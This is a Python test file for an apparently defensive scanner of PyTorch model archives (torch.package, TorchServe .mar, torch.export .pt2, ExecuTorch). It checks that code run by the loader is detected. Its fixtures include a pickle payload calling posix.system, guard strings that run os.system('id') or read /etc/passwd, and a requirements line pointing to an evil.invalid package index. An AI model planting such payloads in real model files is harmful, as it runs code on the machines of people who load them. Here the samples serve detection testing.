"""torch.package, TorchServe .mar and torch.export .pt2: every code file is CODE-EXECUTED-BY-LOADER with its digest."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path

import pytest

from scanner.formats.torch.pt2_archive import guard_allowed, target_allowed
from tests.harness import FIXTURES, make_zip, path_verdict

CARRIERS = FIXTURES / "carriers"
EVIL = b"import os\nos.system('touch /tmp/modelward-canary')\n"
TINY = b"x = 1\n"  # does not look like Python to content detection, still imported by the loader


def _code_findings(rules: dict[str, list]) -> dict[str, dict]:
    return {f.evidence["file"]: f.evidence for f in rules.get("CODE-EXECUTED-BY-LOADER", [])}


# ------------------------------------------------------------------------------------------------ torch.package
def _package(sources: dict[str, bytes], root: str = "pkg") -> bytes:
    entries = {f"{root}/.data/version": b"6\n", f"{root}/.data/extern_modules": b"torch\n"}
    entries.update({f"{root}/{k}": v for k, v in sources.items()})
    return make_zip(entries)


@pytest.mark.parametrize("source", [EVIL, TINY, b"\xff\xfe not utf-8", b""])
def test_torch_package_sources_are_code(tmp_path: Path, source: bytes) -> None:
    p = tmp_path / "m.pt"
    p.write_bytes(_package({"mod/__init__.py": source, "mod/readme.txt": b"hi"}))
    decision, rules = path_verdict(p)
    assert decision == "block"
    ev = _code_findings(rules)["pkg/mod/__init__.py"]
    assert ev["sha256"] == hashlib.sha256(source).hexdigest()
    assert ev["loader"] == "torch.package.PackageImporter"
    assert ev["module"] == "mod"


def test_torch_package_pickles_are_analyzed(tmp_path: Path) -> None:
    payload = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
    p = tmp_path / "m.pt"
    p.write_bytes(_package({"model/model.pkl": payload}))
    decision, rules = path_verdict(p)
    assert decision == "block"
    assert "PICKLE-DANGEROUS-GLOBAL" in rules


def test_real_torch_package_fixture() -> None:
    decision, rules = path_verdict(CARRIERS / "torch_package" / "net.package.pt")
    assert decision == "block"
    assert "net.package/tp_net.py" in _code_findings(rules)


# ------------------------------------------------------------------------------------------------ TorchServe
def _mar(model: dict, files: dict[str, bytes]) -> bytes:
    manifest = {"runtime": "python", "model": {"modelName": "m", "modelVersion": "1.0", **model}}
    return make_zip({"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), **files})


@pytest.mark.parametrize(
    ("model", "files", "rule", "decision"),
    [
        ({"handler": "text_classifier"}, {"vocab.txt": b"[PAD]\n"}, None, "allow"),
        ({"handler": "ts.torch_handler.image_classifier"}, {}, None, "allow"),
        ({"handler": "handler.py"}, {"handler.py": TINY}, "CODE-EXECUTED-BY-LOADER", "block"),
        ({"handler": "pkg.h:entry"}, {"pkg/h.py": TINY}, "CODE-EXECUTED-BY-LOADER", "block"),
        ({"handler": "image_classifier"}, {"utils/helpers.py": TINY}, "CODE-EXECUTED-BY-LOADER", "block"),
        ({"handler": "not_here:fn"}, {}, "CARRIER-CODE-MISSING", "block"),
        ({}, {}, "CARRIER-CONFIG-INVALID", "block"),
    ],
)
def test_mar_variants(tmp_path: Path, model: dict, files: dict, rule: str | None, decision: str) -> None:
    p = tmp_path / "m.mar"
    p.write_bytes(_mar(model, files))
    got, rules = path_verdict(p)
    assert got == decision, rules
    if rule:
        assert rule in rules
    assert "CARRIER-MODEL" in rules


def test_mar_unreadable_manifest_fails_closed(tmp_path: Path) -> None:
    p = tmp_path / "m.mar"
    p.write_bytes(make_zip({"MAR-INF/MANIFEST.json": b"{not json", "handler.py": TINY}))
    got, rules = path_verdict(p)
    assert got == "block"
    assert "CARRIER-CONFIG-INVALID" in rules and "CODE-EXECUTED-BY-LOADER" in rules


def test_mar_risky_requirements(tmp_path: Path) -> None:
    p = tmp_path / "m.mar"
    p.write_bytes(
        _mar(
            {"handler": "image_classifier", "requirementsFile": "requirements.txt"},
            {"requirements.txt": b"numpy==2.0\n--extra-index-url http://evil.invalid/simple\n"},
        )
    )
    got, rules = path_verdict(p)
    assert got == "warn"
    assert rules["CARRIER-ENVIRONMENT"][0].severity.value == "medium"


# ------------------------------------------------------------------------------------------------ torch.export
def _patched_pt2(tmp_path: Path, edit=None, extra: dict[str, bytes] | None = None) -> Path:  # type: ignore[no-untyped-def]
    src = zipfile.ZipFile(CARRIERS / "pt2" / "small.pt2")
    out = tmp_path / "m.pt2"
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if edit is not None:
                data = edit(info.filename, data)
            if data is not None:
                z.writestr(info, data)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out


def _model_json(fn):  # type: ignore[no-untyped-def]
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            doc = json.loads(data)
            fn(doc)
            return json.dumps(doc).encode()
        return data

    return edit


def test_pt2_real_export_is_allowed() -> None:
    decision, rules = path_verdict(CARRIERS / "pt2" / "small.pt2")
    assert decision == "allow", rules
    assert "FORMAT-UNKNOWN" not in rules


@pytest.mark.parametrize(
    "guard",
    [
        "__import__('os').system('id') == 0",
        "L['x'].__class__ == 1",
        "open('/etc/passwd').read() == ''",
        "[c for c in ()] == []",
    ],
)
def test_pt2_guards_outside_the_grammar_are_code(tmp_path: Path, guard: str) -> None:
    p = _patched_pt2(tmp_path, _model_json(lambda d: d.__setitem__("guards_code", [guard])))
    decision, rules = path_verdict(p)
    assert decision == "block"
    assert "CODE-EXECUTED-BY-LOADER" in rules


@pytest.mark.parametrize(
    "target",
    [
        "torch.os.system",
        "builtins.eval",
        "torch._C._dynamo.eval_frame",
        "operator.call",
        "_operator.methodcaller",
        "math.__loader__",
    ],
)
def test_pt2_non_operator_targets(tmp_path: Path, target: str) -> None:
    def edit(d: dict) -> None:
        d["graph_module"]["graph"]["nodes"][0]["target"] = target

    decision, rules = path_verdict(_patched_pt2(tmp_path, _model_json(edit)))
    assert decision == "block"
    assert "CODE-EXECUTED-BY-LOADER" in rules


def test_pt2_weight_shorter_than_its_metadata(tmp_path: Path) -> None:
    def edit(name: str, data: bytes) -> bytes:
        return data[:4] if name.endswith("data/weights/weight_0") else data

    decision, rules = path_verdict(_patched_pt2(tmp_path, edit))
    assert decision == "block" and "TORCH-STORAGE-INVALID" in rules


def test_pt2_unreferenced_weight_and_py_file(tmp_path: Path) -> None:
    p = _patched_pt2(
        tmp_path,
        extra={"small/data/weights/weight_9": b"\x00\x9c\x02\xff" * 8, "small/extra/helper.py": TINY},
    )
    decision, rules = path_verdict(p)
    assert decision == "block"
    assert "small/extra/helper.py" in _code_findings(rules)
    assert "FORMAT-UNKNOWN" in rules  # raw bytes no metadata describes are not judged clean


def test_pt2_payload_disguised_as_raw_weight(tmp_path: Path) -> None:
    payload = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."

    def edit(name: str, data: bytes) -> bytes:
        return payload + data if name.endswith("data/weights/weight_0") else data

    decision, rules = path_verdict(_patched_pt2(tmp_path, edit))
    assert decision == "block" and "PICKLE-DANGEROUS-GLOBAL" in rules


def test_pt2_grammar_helpers() -> None:
    assert guard_allowed("L['x'].size()[0] == 4")
    assert guard_allowed("2 <= L['x'].size()[0] and L['x'].size()[0] <= 64")
    assert guard_allowed("math.floor(L['x'].size()[0] / 2) == 1")
    assert not guard_allowed("L['x'].size.__globals__ == 1")
    assert not guard_allowed("torch.load('f') == 1")
    assert target_allowed("torch.ops.aten.linear.default")
    assert target_allowed("_operator.getitem")
    assert not target_allowed("torch.ops.aten.__dict__.x")
    assert not target_allowed("torch.serialization.load")


# ------------------------------------------------------------------------------------------------ ExecuTorch
def _pte(root: int = 16, vt_back: int = 8, ident: bytes = b"ET12") -> bytes:
    body = bytearray(64)
    body[0:4] = root.to_bytes(4, "little")
    body[4:8] = ident
    body[root : root + 4] = vt_back.to_bytes(4, "little", signed=True)
    return bytes(body)


def test_executorch_program_recognized(tmp_path: Path) -> None:
    p = tmp_path / "model.pte"
    p.write_bytes(_pte())
    decision, rules = path_verdict(p)
    assert decision == "allow" and "CARRIER-MODEL" in rules


@pytest.mark.parametrize(
    "data", [_pte(root=4096), _pte(root=18), _pte(vt_back=1000), b"abcdET12 is just text\n" * 3]
)
def test_executorch_lookalikes_are_not_programs(tmp_path: Path, data: bytes) -> None:
    p = tmp_path / "model.pte"
    p.write_bytes(data)
    _, rules = path_verdict(p)
    assert "CARRIER-MODEL" not in rules


@pytest.mark.parametrize("prefix", ["", "./", "lin/"])
def test_mar_tgz_format(tmp_path: Path, prefix: str) -> None:
    import gzip

    from tests.harness import make_tar

    manifest = {
        "runtime": "python",
        "model": {"modelName": "lin", "handler": "handler:handle", "modelFile": "m.py"},
    }
    tar = make_tar(
        [
            (f"{prefix}MAR-INF/MANIFEST.json", json.dumps(manifest).encode()),
            (f"{prefix}handler.py", EVIL),
            (f"{prefix}m.py", TINY),
            (f"{prefix}labels.json", b'{"0": "a"}'),
        ]
    )
    p = tmp_path / "lin.tar.gz"
    p.write_bytes(gzip.compress(tar, mtime=0))
    decision, rules = path_verdict(p)
    assert decision == "block"
    ev = _code_findings(rules)
    assert ev[f"{prefix}handler.py"]["role"] == "handler"
    assert ev[f"{prefix}m.py"]["role"] == "model file"
    assert ev[f"{prefix}handler.py"]["sha256"] == hashlib.sha256(EVIL).hexdigest()
    assert "CARRIER-CODE-MISSING" not in rules and "PY-DANGEROUS-CALL" in rules


def test_mar_tgz_without_code_is_allowed(tmp_path: Path) -> None:
    from tests.harness import make_tar

    manifest = {"runtime": "python", "model": {"modelName": "lin", "handler": "image_classifier"}}
    p = tmp_path / "lin.tar"
    p.write_bytes(
        make_tar([("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()), ("labels.json", b"{}")])
    )
    decision, rules = path_verdict(p)
    assert decision == "allow", rules


def test_pt2_operator_passed_as_argument(tmp_path: Path) -> None:
    def edit(d: dict) -> None:
        node = d["graph_module"]["graph"]["nodes"][0]
        node["inputs"].append({"name": "fn", "arg": {"as_operator": "torch.os.system"}, "kind": 1})

    decision, rules = path_verdict(_patched_pt2(tmp_path, _model_json(edit)))
    assert decision == "block"
    ev = rules["CODE-EXECUTED-BY-LOADER"][0].evidence
    assert ev["target"] == "torch.os.system" and len(ev["sha256"]) == 64
